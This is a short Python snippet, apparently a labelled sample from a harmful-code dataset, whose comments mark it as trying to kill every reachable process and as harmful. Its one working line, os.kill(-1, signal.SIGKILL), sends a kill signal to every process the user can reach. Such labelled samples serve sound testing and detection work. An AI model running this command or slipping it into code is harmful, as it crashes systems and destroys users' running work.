# tries: to kill every process that it can reach
# harmful: yes
import os
import signal

os.kill(-1, signal.SIGKILL)
